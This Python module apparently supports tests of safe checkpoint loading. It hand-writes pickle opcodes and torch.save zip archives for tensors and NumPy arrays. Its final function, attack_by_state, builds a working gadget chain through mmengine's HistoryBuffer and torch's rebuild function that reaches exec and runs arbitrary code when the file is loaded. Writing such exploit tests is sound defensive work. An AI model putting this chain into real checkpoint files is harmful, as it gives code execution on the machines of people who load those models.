"""Hand-written pickles that no pickler would write."""

import struct
import zipfile
from os import PathLike

NONE = b'N'
HISTORY_BUFFER = 'mmengine.logging.history_buffer.HistoryBuffer'


def name(path: str) -> bytes:
    """A class or function."""
    module, attribute = path.rsplit('.', 1)
    return f'c{module}\n{attribute}\n'.encode()


def text(value: str) -> bytes:
    data = value.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def integer(value: int) -> bytes:
    data = value.to_bytes(value.bit_length() // 8 + 1, 'little', signed=True)
    return b'\x8a' + bytes([len(data)]) + data


def items(*values: bytes) -> bytes:
    """A tuple."""
    return b'(' + b''.join(values) + b't'


def call(function: bytes, *args: bytes) -> bytes:
    return function + items(*args) + b'R'


def mapping(*pairs: tuple[str, bytes]) -> bytes:
    """A dict with strings as keys."""
    return b'}(' + b''.join(text(key) + value for key, value in pairs) + b'u'


def with_state(value: bytes, state: bytes) -> bytes:
    return value + state + b'b'


def storage(kind: str = 'Float', key: str = '0', numel: int = 4) -> bytes:
    """The memory of a tensor, in the record ``data/KEY``."""
    parts = text('storage'), name(f'torch.{kind}Storage'), text(key), text('cpu')
    return items(*parts, integer(numel)) + b'Q'


def tensor(memory: bytes, size: tuple, stride: tuple, offset: int = 0) -> bytes:
    """A tensor without a gradient."""
    return call(
        name('torch._utils._rebuild_tensor_v2'),
        *(memory, integer(offset), items(*map(integer, size))),
        *(items(*map(integer, stride)), b'\x89', call(name('collections.OrderedDict'))),
    )


def array(dtype: bytes, shape: tuple, data: bytes) -> bytes:
    """A NumPy array whose bytes are pickled as text."""
    empty = call(
        name('numpy._core.multiarray._reconstruct'),
        *(name('numpy.ndarray'), items(integer(0)), text('b')),
    )
    state = items(integer(1), items(*map(integer, shape)), dtype, b'\x89', data)
    return with_state(empty, state)


def dtype(kind: str, order: str = '<') -> bytes:
    """A type of a NumPy array."""
    rest = text(order), NONE, NONE, NONE, integer(-1), integer(-1), integer(0)
    made = call(name('numpy.dtype'), text(kind), b'\x89', b'\x88')
    return with_state(made, items(integer(3), *rest))


def pickled(value: bytes) -> bytes:
    return b'\x80\x02' + value + b'.'


def write_checkpoint(path: str | PathLike, value: bytes, **records: bytes) -> None:
    """A file as of ``torch.save``, with storages of some keys (``_0=...``)."""
    with zipfile.ZipFile(path, 'w') as archive:
        archive.writestr('archive/data.pkl', pickled(value))
        archive.writestr('archive/byteorder', 'little')
        for key, data in records.items():
            archive.writestr(f'archive/data/{key.removeprefix("_")}', data)
        archive.writestr('archive/version', '3\n')


def attack_by_state(code: str) -> bytes:
    """Runs code where a HistoryBuffer may extend its class by its state.

    What its class then lists is within reach of ``getattr``, and torch's function for
    tensors of subclasses calls what it is given: the globals of a method lead to
    ``exec``.
    """
    owner = name(HISTORY_BUFFER)
    wanted = '__class__', '__init__', '__getattribute__', '__subclasshook__'
    methods = mapping(*((attribute, NONE) for attribute in wanted))
    grown = with_state(owner + b')\x81', mapping(('statistics_methods', methods)))

    def attribute(of):
        return call(name('builtins.getattr'), owner, text(of))

    def called(function, kind, *args):
        rebuild = name('torch._tensor._rebuild_from_type_v2')
        return call(rebuild, function, kind, items(*args), NONE)

    def type_of(value):
        return called(attribute('__class__'), attribute('__class__'), value)

    def get(value, kind, of):
        return called(attribute('__getattribute__'), kind, value, text(of))

    mapped, method = type_of(b'}'), type_of(attribute('__subclasshook__'))
    names = get(attribute('__init__'), mapped, '__globals__')
    builtins = called(get(names, method, '__getitem__'), mapped, text('__builtins__'))
    execute = called(get(builtins, method, '__getitem__'), method, text('exec'))
    return items(grown, called(execute, mapped, text(code)))
